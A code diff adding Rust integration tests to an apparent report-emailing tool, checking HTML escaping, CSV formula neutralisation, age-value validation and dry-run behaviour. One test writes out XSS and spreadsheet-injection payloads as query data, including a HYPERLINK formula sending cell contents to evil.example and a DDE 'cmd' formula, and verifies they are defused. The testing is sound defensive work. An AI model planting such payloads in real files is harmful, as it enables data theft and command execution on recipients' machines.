@@ -233,3 +233,85 @@ fn a_forced_resend_to_a_dead_server_never_overwrites_the_record_of_the_send() {
     assert!(failed["error"].as_str().unwrap().contains("refused"), "{failed}");
     assert_eq!(server.received().len(), 2, "only the first run's two messages");
 }
+
+#[test]
+fn lake_values_cannot_inject_html_through_a_helper_or_formulas_into_an_attached_spreadsheet() {
+    let server = SmtpServer::start(Options::default());
+    let p = daily(server.port);
+    p.file(
+        "jobs/daily.toml",
+        &format!(
+            "{}attach = [\"totals\"]\n",
+            p.read("jobs/daily.toml").replace("to = [\"a@example.com\", \"b@example.com\"]", "to = [\"a@example.com\"]")
+        ),
+    );
+    p.file(
+        "queries/totals.sql",
+        "SELECT '<img src=x onerror=alert(1)>' AS cur, 5 AS amount, name, -3 AS delta\nFROM (VALUES\n  ('=HYPERLINK(\"http://evil.example/?\"&A1,\"Click\")'),\n  ('+1+cmd|'' /C calc''!A0'),\n  ('-2+3'),\n  ('@SUM(1+1)'),\n  ('Acme - Holdings')\n) AS t(name)\nWHERE EXISTS (SELECT 1 FROM orders)\n",
+    );
+    p.file("templates/simple.html.hbs", "{{#each results.totals.rows}}<p>{{currency amount code=cur}}</p>{{/each}}\n");
+    p.file("templates/simple.txt.hbs", "{{#each results.totals.rows}}{{currency amount code=cur}}\n{{/each}}");
+    p.run(&["run", "daily", "--as-of", "2026-11-17"]).expect(0);
+
+    // The helper's code argument is escaped in HTML (and left alone in the text part).
+    let html = p.read("archive/daily/2026-11-16/report.html");
+    assert!(!html.contains("<img"), "{html}");
+    assert!(html.contains("<p>&lt;IMG SRC&#x3D;X ONERROR&#x3D;ALERT(1)&gt; 5</p>"), "{html}");
+    assert!(p.read("archive/daily/2026-11-16/report.txt").starts_with("<IMG SRC=X ONERROR=ALERT(1)> 5\n"));
+
+    // The attached CSV starts every formula-like text with ', and leaves numbers as numbers.
+    let got = server.received();
+    let msg = MessageParser::default().parse(&got[0].raw).unwrap();
+    let csv = String::from_utf8(msg.attachments().next().unwrap().contents().to_vec()).unwrap();
+    assert_eq!(
+        csv,
+        "cur,amount,name,delta\n\
+         <img src=x onerror=alert(1)>,5,\"'=HYPERLINK(\"\"http://evil.example/?\"\"&A1,\"\"Click\"\")\",-3\n\
+         <img src=x onerror=alert(1)>,5,'+1+cmd|' /C calc'!A0,-3\n\
+         <img src=x onerror=alert(1)>,5,'-2+3,-3\n\
+         <img src=x onerror=alert(1)>,5,'@SUM(1+1),-3\n\
+         <img src=x onerror=alert(1)>,5,Acme - Holdings,-3\n"
+    );
+    // The archive keeps the raw values in the result's Parquet.
+    let raw = p.result("archive/daily/2026-11-16/results", "totals");
+    assert_eq!(raw["rows"][0]["name"], "=HYPERLINK(\"http://evil.example/?\"&A1,\"Click\")");
+}
+
+#[test]
+fn an_age_too_long_for_the_clock_is_an_error_for_that_job_not_a_panic() {
+    let server = SmtpServer::start(Options::default());
+    let p = daily(server.port);
+    p.file("jobs/daily.toml", &format!("{}require_fresh = {{ orders = \"9999999999999h\" }}\n", p.read("jobs/daily.toml")));
+    let out = p.run(&["list"]);
+    out.expect(2);
+    assert!(out.stdout.contains("jobs/daily.toml  -         -          -       -         invalid: run `pareto check`"), "{}", out.stdout);
+    for cmd in [&["check"][..], &["run", "daily", "--as-of", "2026-11-17"]] {
+        let out = p.run(cmd);
+        out.expect(2);
+        assert!(!out.stderr.contains("panicked"), "{cmd:?}: {}", out.stderr);
+        let text = format!("{}{}", out.stdout, out.stderr);
+        assert!(
+            text.contains("jobs/daily.toml:9:28: `require_fresh.orders`: `9999999999999h` is not an age such as `36h`, `2d` or `90m` (at most ten years)"),
+            "{cmd:?}: {text}"
+        );
+    }
+    assert!(server.received().is_empty());
+}
+
+#[test]
+fn a_dry_run_needs_no_smtp_password() {
+    let server = SmtpServer::start(Options::default());
+    let p = daily(server.port);
+    p.file("pareto.toml", &config(server.port, "user = \"reports\"\npassword_env = \"PARETO_TEST_NO_SUCH_PASSWORD\""));
+    p.run(&["run", "daily", "--as-of", "2026-11-17", "--dry-run"]).expect(0);
+    let out = p.run(&["run", "daily", "--as-of", "2026-11-17"]);
+    out.expect(2);
+    assert!(
+        out.stderr.contains(
+            "`smtp.user` is set in pareto.toml but there is no password: set the environment variable PARETO_TEST_NO_SUCH_PASSWORD"
+        ),
+        "{}",
+        out.stderr
+    );
+    assert!(server.received().is_empty());
+}
